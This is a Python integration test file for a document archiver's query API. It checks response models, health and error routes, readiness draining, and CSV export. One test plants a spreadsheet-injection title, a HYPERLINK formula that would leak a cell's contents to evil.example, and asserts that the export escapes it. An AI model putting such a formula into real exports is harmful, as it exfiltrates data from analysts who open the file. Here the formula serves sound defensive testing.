"""The query API's bodies and ops routes without vLLM: the real archiver on the real RabbitMQ
and PostgreSQL + pgvector, the real gateway in front of a FAKE embeddings upstream.

Each route's answer is what its response model (`/docs`) says; the detail routes answer the
same JSON they did before they had models (the query's row, serialized as a plain dict)."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from pydantic import TypeAdapter

from sift_archiver import queries
from sift_archiver.api_models import (
    RankedEntity,
    RankingPage,
    ScoreBucket,
    ScorePage,
    SearchHit,
    SearchPage,
)
from sift_archiver.pool import asyncpg_dsn, init_connection
from sift_common.contracts import DocumentAnalyzed, EntityDigested, EntityRef
from sift_common.messaging.topology import Topology
from tests.support.archiver import (
    T0,
    RunningArchiver,
    analyzed,
    archiver_settings,
    fake_embedding_gateway,
    handled,
    publish_all,
    running_archiver,
    topology,
    wait_for,
)

pytestmark = pytest.mark.integration
__all__ = ["topology"]  # a fixture used by name

ACME = EntityRef(kind="company", name="Acme Corp")
AS_BEFORE = TypeAdapter(dict[str, Any])  # how a route answering a plain dict serializes it


def events() -> list[DocumentAnalyzed]:
    return [
        analyzed(
            f"Acme update {n}",
            f"Acme Corp shipped update {n} to its customers.",
            published_at=T0 + timedelta(hours=n),
            score=40.0 + n,
            entities=(("company", "Acme Corp", 40.0 + n), ("place", "Gulf Coast", None)),
        )
        for n in range(3)
    ]


@pytest.fixture
async def archiver(
    rabbit_url: str, topology: Topology, fresh_database: str, tmp_path: Path
) -> AsyncIterator[tuple[RunningArchiver, list[DocumentAnalyzed]]]:
    stored = events()
    digest = EntityDigested(
        correlation_id=ACME.key, entity=ACME, digest_type="weekly", prompt_version="d1",
        model="smollm2", summary="Acme ships.", score=41.0, document_ids=[stored[0].document.id],
    )  # fmt: skip
    async with fake_embedding_gateway(tmp_path) as gateway:
        settings = archiver_settings(rabbit_url, topology.namespace, fresh_database, gateway.url)
        async with running_archiver(settings) as running:
            await publish_all(rabbit_url, topology, [*stored, digest])
            await wait_for(lambda: _stored(running, fresh_database, len(stored)), timeout=60)
            yield running, stored


async def _stored(running: RunningArchiver, database_url: str, documents: int) -> bool:
    if handled(running.archiver) < documents:
        return False
    conn = await asyncpg.connect(asyncpg_dsn(database_url))
    try:
        return bool(await conn.fetchval("SELECT count(*) FROM entity_digests"))
    finally:
        await conn.close()


async def _as_before(database_url: str, document_id: str) -> tuple[Any, Any]:
    conn = await asyncpg.connect(asyncpg_dsn(database_url))
    try:
        await init_connection(conn)
        document = await queries.document(conn, document_id)
        entity = await queries.entity(conn, ACME.key, 20)
    finally:
        await conn.close()
    return AS_BEFORE.dump_python(document, mode="json"), AS_BEFORE.dump_python(entity, mode="json")


async def test_detail_routes_answer_the_json_they_did_before_their_models(
    archiver: tuple[RunningArchiver, list[DocumentAnalyzed]], fresh_database: str
) -> None:
    running, stored = archiver
    document_id = stored[1].document.id
    async with running.http() as http:
        document = (await http.get(f"/v1/documents/{document_id}")).json()
        entity = (await http.get(f"/v1/entities/{ACME.key}")).json()
        status = (await http.get("/v1/status")).json()
    assert (document, entity) == await _as_before(fresh_database, document_id)
    assert document["embedded_chunks"] == 1
    assert entity["latest_digest"]["summary"] == "Acme ships."
    assert status["store"] == {
        "documents": 3, "analyses": 3, "embeddings": 3, "entities": 2, "digests": 1
    }  # fmt: skip
    assert status["queues"]["archiver.documents"] == {"messages": 0, "dlq": 0}


async def test_list_routes_answer_what_their_models_document(
    archiver: tuple[RunningArchiver, list[DocumentAnalyzed]],
) -> None:
    running, _ = archiver
    async with running.http() as http:
        scores = (await http.get(f"/v1/entities/{ACME.key}/scores")).json()
        rankings = (await http.get("/v1/rankings", params={"window_days": 3650})).json()
        hits = (await http.get("/v1/search", params={"q": "Acme update"})).json()
        spec = (await http.get("/openapi.json")).json()
    pages = [(scores, ScorePage, ScoreBucket), (rankings, RankingPage, RankedEntity),
             (hits, SearchPage, SearchHit)]  # fmt: skip
    for page, page_model, item_model in pages:
        assert set(page) == set(page_model.model_fields)
        assert all(set(item) == set(item_model.model_fields) for item in page["items"])
        page_model.model_validate(page)
    assert scores["items"][0]["count"] == 3
    assert {item["entity_key"] for item in rankings["items"]} == {"company:acme corp"}
    assert len(hits["items"]) == 3
    search = spec["paths"]["/v1/search"]["get"]["responses"]["200"]["content"]
    assert search["application/json"]["schema"] == {"$ref": "#/components/schemas/SearchPage"}
    assert "text/csv" in search
    detail = spec["paths"]["/v1/documents/{document_id}"]["get"]["responses"]["200"]
    assert detail["content"]["application/json"]["schema"]["$ref"].endswith("/DocumentDetail")
    for name in ("EntityDetail", "Status", "ScorePage", "RankingPage", "ErrorResponse"):
        assert name in spec["components"]["schemas"]


async def test_ops_routes_and_errors_share_the_service_shapes(
    archiver: tuple[RunningArchiver, list[DocumentAnalyzed]],
) -> None:
    running, _ = archiver
    async with running.http() as http:
        live = await http.get("/health/live")
        ready = await http.get("/health/ready")
        bad = await http.get("/v1/rankings", params={"direction": "sideways"})
        missing = await http.get("/v1/entities/company:nobody")
        unauthorized = await http.get("/v1/rankings", headers={"X-API-Key": "wrong"})
        metrics = await http.get("/metrics")
    assert live.json() == {"status": "live"}
    assert ready.status_code == 200
    assert ready.json() == {
        "status": "ready",
        "checks": {
            "database": {"ok": True, "error": None, "detail": None, "advisory": False},
            "broker": {"ok": True, "error": None, "detail": None, "advisory": False},
        },
    }
    assert bad.status_code == 422
    assert bad.json()["error"]["field"] == "direction"
    assert bad.json()["error"]["type"] == "invalid_request"
    assert missing.status_code == 404
    assert missing.json()["error"] == {
        "message": "no entity company:nobody", "type": "not_found", "field": None, "errors": []
    }  # fmt: skip
    assert unauthorized.status_code == 401
    assert unauthorized.json()["error"]["type"] == "unknown_api_key"  # the collector's types too
    assert unauthorized.headers["WWW-Authenticate"] == "ApiKey"
    assert "sift_archiver_batch_size_count" in metrics.text


async def test_readiness_turns_draining_when_the_archiver_stops(
    rabbit_url: str, topology: Topology, fresh_database: str, tmp_path: Path
) -> None:
    async with fake_embedding_gateway(tmp_path) as gateway:
        settings = archiver_settings(rabbit_url, topology.namespace, fresh_database, gateway.url)
        async with running_archiver(settings) as running:
            readiness = running.archiver.readiness
        report = await asyncio.wait_for(readiness.report(), 5)
    assert report.model_dump() == {"status": "draining", "checks": {}}


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_NAME = "@SUM(1+1)"


async def test_csv_exports_quote_cells_a_spreadsheet_would_run(
    rabbit_url: str, topology: Topology, fresh_database: str, tmp_path: Path
) -> None:
    hostile = analyzed(
        FORMULA_TITLE,
        "A document whose author hopes an analyst exports it to a spreadsheet.",
        published_at=T0,
        entities=(("company", FORMULA_NAME, 10.0),),
    )
    async with fake_embedding_gateway(tmp_path) as gateway:
        settings = archiver_settings(rabbit_url, topology.namespace, fresh_database, gateway.url)
        async with running_archiver(settings) as running:
            await publish_all(rabbit_url, topology, [hostile])

            async def stored() -> bool:
                return handled(running.archiver) >= 1

            await wait_for(stored, timeout=60)
            async with running.http() as http:
                csv_params = {"window_days": 3650, "format": "csv"}
                rankings = await http.get("/v1/rankings", params=csv_params)
                hits = await http.get("/v1/search", params={"q": "spreadsheet", "format": "csv"})
    [ranked] = list(csv.DictReader(io.StringIO(rankings.text, newline="")))
    assert ranked["name"] == f"'{FORMULA_NAME}"
    assert ranked["mean_score"] == "10.0"
    [hit] = list(csv.DictReader(io.StringIO(hits.text, newline="")))
    assert hit["title"] == f"'{FORMULA_TITLE}"
